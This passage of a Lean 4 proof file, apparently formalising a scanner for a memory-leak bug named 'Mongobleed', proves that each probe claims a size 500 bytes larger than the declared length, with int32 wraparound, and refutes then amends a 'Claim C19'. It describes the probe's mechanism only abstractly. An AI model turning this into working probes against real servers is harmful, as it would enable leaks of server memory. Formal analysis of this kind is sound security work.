    · apply List.map_congr_left
      intro i _
      simp only [Function.comp, Nat.succ_eq_add_one]
      push_cast
      omega

theorem scanLoop_probes (L : GoLib) (net : Nat → List Byte → Exchange) (maxOffset : Int) :
    ∀ (fuel n : Nat) (docLen : Int) (st : ScanState) (p : Int × Int),
      p ∈ (scanLoop L net maxOffset fuel n docLen st).probes →
      (-2147483648 ≤ docLen ∧ docLen ≤ 2147483647) →
      p.2 = wrapInt32 (p.1 + 500) ∧ -2147483648 ≤ p.1 ∧ p.1 ≤ 2147483647 := by
  intro fuel
  induction fuel with
  | zero => intro n docLen st p hp _; simp [scanLoop] at hp
  | succ fuel ih =>
    intro n docLen st p hp hr
    by_cases hle : docLen ≤ maxOffset
    · cases hstep : probeStep L st (sendProbe L (net n) docLen (wrapInt32 (docLen + 500))) with
      | none =>
        simp only [scanLoop, hle, if_true, hstep, List.mem_singleton] at hp
        subst hp
        exact ⟨rfl, hr⟩
      | some st2 =>
        rw [scanLoop_round L net maxOffset fuel n docLen st st2 hle hstep] at hp
        rcases List.mem_cons.1 hp with h | h
        · subst h; exact ⟨rfl, hr⟩
        · exact ih (n + 1) _ st2 p h (wrapInt32_range _)
    · rw [scanLoop_exit L net maxOffset fuel n docLen st hle] at hp
      simp at hp

/-- Claim C19, refuted as stated: the scan with `minOffset = maxOffset =
2147483148` issues one probe, and the claimed size it passes is `-2147483648`,
which is neither `2147483148 + 500` nor greater than `2147483148`. -/
theorem C19_claimed_size_wraps :
    (scan refLib deadNet 2147483148 2147483148 2).probes = [(2147483148, -2147483648)]
      ∧ (-2147483648 : Int) ≠ 2147483148 + 500
      ∧ ¬ ((2147483148 : Int) < -2147483648) := by
  decide

/-- Claim C19, amended: for every probe of the scan the declared length `d`
is a signed 32-bit value and the claimed size passed to `sendProbe` is
`d + 500` computed in `int32`, so reduced to the signed 32-bit range (the four
bytes written to the frame are those of `d + 500` modulo `2^32`); for
`d ≤ 2147483147` this is `d + 500` itself and strictly greater than `d`. -/
theorem C19_claimed_size_int32 (L : GoLib) (net : Nat → List Byte → Exchange)
    (minOffset maxOffset : Int) (fuel : Nat) (p : Int × Int)
    (hp : p ∈ (scan L net minOffset maxOffset fuel).probes) :
    (-2147483648 ≤ p.1 ∧ p.1 ≤ 2147483647)
      ∧ p.2 = wrapInt32 (p.1 + 500)
      ∧ le32OfInt p.2 = le32OfInt (p.1 + 500)
      ∧ (p.1 ≤ 2147483147 → p.2 = p.1 + 500 ∧ p.1 < p.2) := by
  obtain ⟨h1, h2⟩ := scanLoop_probes L net _ fuel 0 _ _ p hp (wrapInt32_range minOffset)
  refine ⟨h2, h1, ?_, ?_⟩
  · rw [h1]
    unfold le32OfInt int32Bits wrapInt32
    congr 2
    split <;> omega
  · intro hd
    rw [h1, wrapInt32_of_range _ ⟨by omega, by omega⟩]
    exact ⟨rfl, by omega⟩

theorem C19_claimed_size_witness :
    (8192, 8692) ∈ (scan refLib deadNet 8191 8192 3).probes
      ∧ ((8192 : Int) ≤ 2147483147 → (8692 : Int) = 8192 + 500 ∧ (8192 : Int) < 8692) :=
  ⟨by decide,
    (C19_claimed_size_int32 refLib deadNet 8191 8192 3 (8192, 8692) (by decide)).2.2.2⟩

end Mongobleed
